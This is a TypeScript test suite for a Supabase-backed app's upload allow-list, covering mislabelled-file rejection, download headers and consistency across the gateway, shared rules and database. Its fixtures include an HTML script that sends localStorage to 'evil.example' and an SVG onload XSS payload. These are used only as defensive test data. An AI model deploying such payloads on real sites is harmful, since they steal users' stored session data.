// Uploads keep to one allow-list (PDF, PNG, JPEG): the gateway refuses an object whose name,
// declared type and first bytes disagree, the database (migration 20261126001000_upload-allow-
// list.sql) refuses names outside the list where no gateway stands, and stored files are served
// with nosniff and a Content-Disposition. The three lists (shared-rules' upload-files.ts, the
// gateway's storage-guard.mjs, the SQL function) are compared here.
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { createClient, type SupabaseClient } from '@supabase/supabase-js';
import {
  DIRECTORY_DOCUMENTS_BUCKET,
  PITCH_DECK_BUCKET,
  UPLOAD_FILE_KINDS,
  UPLOAD_FILE_MESSAGES,
  VERIFICATION_DOCUMENTS_BUCKET,
  uploadMismatchError,
} from '@donation-network/shared-rules';
import ws from 'ws';
import { signUpUser, startTestBackend, type SignedUpUser, type TestBackend } from './support/test-backend';

let backend: TestBackend;
let user: SignedUpUser;

beforeAll(async () => {
  backend = await startTestBackend();
  user = await signUpUser(backend, { user_type: 'founder' });
}, 120_000);

afterAll(async () => {
  await backend?.stop();
});

const PDF = Buffer.from('%PDF-1.4\n%\xe2\xe3\n1 0 obj\n', 'latin1');
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')]);
const JPEG = Buffer.from('ffd8ffe000104a46494600', 'hex');
const HTML = Buffer.from('<html><script>fetch("//evil.example/?" + JSON.stringify(localStorage))</script></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage)"/>');
const TEXT = Buffer.from('fake file');

const BUCKETS = [
  { bucket: VERIFICATION_DOCUMENTS_BUCKET, real: { ext: 'png', body: PNG, type: 'image/png' } },
  { bucket: PITCH_DECK_BUCKET, real: { ext: 'pdf', body: PDF, type: 'application/pdf' } },
  { bucket: DIRECTORY_DOCUMENTS_BUCKET, real: { ext: 'jpg', body: JPEG, type: 'image/jpeg' } },
] as const;

const MISLABELLED = [
  { name: 'passport.html', body: HTML, type: 'image/png' },
  { name: 'passport.svg', body: SVG, type: 'image/png' },
  { name: 'fake.png', body: TEXT, type: 'image/png' },
  { name: 'fake.pdf', body: TEXT, type: 'application/pdf' },
  { name: 'fake.jpg', body: HTML, type: 'image/jpeg' },
] as const;

let counter = 0;
const objectName = (name: string) => `${user.user.id}/${Date.now()}-${(counter += 1)}-${name}`;

const statusOf = (error: unknown): number => Number((error as { status?: number; statusCode?: string }).status);

describe('mislabelled uploads', () => {
  it.each(BUCKETS)(
    '$bucket refuses every mislabelled file with a 4xx (raw bytes and multipart) and takes a real one',
    async ({ bucket, real }) => {
      const storage = user.client.storage.from(bucket);
      for (const file of MISLABELLED) {
        const raw = await storage.upload(objectName(file.name), file.body, { contentType: file.type });
        expect(raw.error).not.toBeNull();
        expect(statusOf(raw.error)).toBeGreaterThanOrEqual(400);
        expect(statusOf(raw.error)).toBeLessThan(500);
        expect(raw.error!.message).toBe(
          file.name.endsWith('.html') || file.name.endsWith('.svg') ? UPLOAD_FILE_MESSAGES.name : UPLOAD_FILE_MESSAGES.notReal,
        );
        // the browser's rule gives the same answer before the file travels
        expect(uploadMismatchError(file.name, file.type, file.body)).toBe(raw.error!.message);

        const multipart = await storage.upload(objectName(file.name), new Blob([file.body], { type: file.type }));
        expect(statusOf(multipart.error)).toBeGreaterThanOrEqual(400);
        expect(statusOf(multipart.error)).toBeLessThan(500);
      }
      const { data } = await storage.list(user.user.id);
      expect((data ?? []).filter((object) => !/\.(pdf|png|jpe?g)$/.test(object.name))).toEqual([]);

      const accepted = await storage.upload(objectName(`real.${real.ext}`), real.body, { contentType: real.type });
      expect(accepted.error).toBeNull();
    },
  );
});

describe('the database keeps the name half without the gateway', () => {
  it('refuses an object named outside the allow-list, or recorded with another type, when lite is called directly', async () => {
    const session = (await user.client.auth.getSession()).data.session!;
    const direct: SupabaseClient = createClient(backend.liteUrl, backend.anonKey, {
      auth: { persistSession: false, autoRefreshToken: false },
      realtime: { transport: ws as never },
      global: { headers: { Authorization: `Bearer ${session.access_token}` } },
    });
    for (const { bucket, real } of BUCKETS) {
      const storage = direct.storage.from(bucket);
      expect((await storage.upload(objectName('passport.html'), HTML, { contentType: 'image/png' })).error).not.toBeNull();
      expect((await storage.upload(objectName('passport.svg'), SVG, { contentType: real.type })).error).not.toBeNull();
      expect((await storage.upload(objectName(`page.${real.ext}`), HTML, { contentType: 'text/html' })).error).not.toBeNull();
      expect((await storage.upload(objectName(`ok.${real.ext}`), real.body, { contentType: real.type })).error).toBeNull();
    }
  });
});

describe('downloads', () => {
  it('are served with nosniff, the allow-listed type and a Content-Disposition', async () => {
    const name = objectName('scan.pdf');
    expect(
      (await user.client.storage.from(DIRECTORY_DOCUMENTS_BUCKET).upload(name, PDF, { contentType: 'application/pdf' })).error,
    ).toBeNull();
    const session = (await user.client.auth.getSession()).data.session!;
    const response = await fetch(`${backend.url}/storage/v1/object/${DIRECTORY_DOCUMENTS_BUCKET}/${name}`, {
      headers: { apikey: backend.anonKey, Authorization: `Bearer ${session.access_token}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toBe(`inline; filename="${name.split('/').pop()}"`);
    expect(Buffer.from(await response.arrayBuffer()).equals(PDF)).toBe(true);
  });
});

describe('one allow-list', () => {
  const fromRules: Record<string, string> = Object.fromEntries(
    UPLOAD_FILE_KINDS.flatMap((kind) => kind.extensions.map((extension) => [extension, kind.mime])),
  );

  it("the gateway's list is shared-rules' list (types, extensions, magic bytes)", () => {
    const script = "import('./scripts/gateway/storage-guard.mjs').then((m) => process.stdout.write(JSON.stringify(m.UPLOAD_ALLOW_LIST)))";
    const gateway = JSON.parse(
      execFileSync(process.execPath, ['--input-type=module', '-e', script], { cwd: path.resolve(__dirname, '../..') }).toString(),
    );
    expect(gateway).toEqual(UPLOAD_FILE_KINDS.map(({ mime, extensions, signature }) => ({ mime, extensions, signature })));
  });

  it("the database's list is shared-rules' list, and every bucket allows only listed types", async () => {
    const { data, error } = await user.client.rpc('upload_allow_list');
    expect(error).toBeNull();
    expect(data).toEqual(fromRules);
    const service = createClient(backend.url, backend.secretKey!, {
      auth: { persistSession: false, autoRefreshToken: false },
      realtime: { transport: ws as never },
    });
    for (const { bucket } of BUCKETS) {
      const { data: found, error: bucketError } = await service.storage.getBucket(bucket);
      expect(bucketError).toBeNull();
      expect(found!.allowed_mime_types!.length).toBeGreaterThan(0);
      expect(found!.allowed_mime_types!.every((mime) => Object.values(fromRules).includes(mime))).toBe(true);
    }
    for (const name of ['x.PDF', 'a/b.jpeg', 'x.html', 'x.svg', 'x', 'x.png/y']) {
      const mime = await user.client.rpc('upload_mime_for_name', { object_name: name });
      expect(mime.data ?? null).toBe(fromRules[name.includes('/y') ? '' : (name.split('.').pop() ?? '').toLowerCase()] ?? null);
    }
  });
});
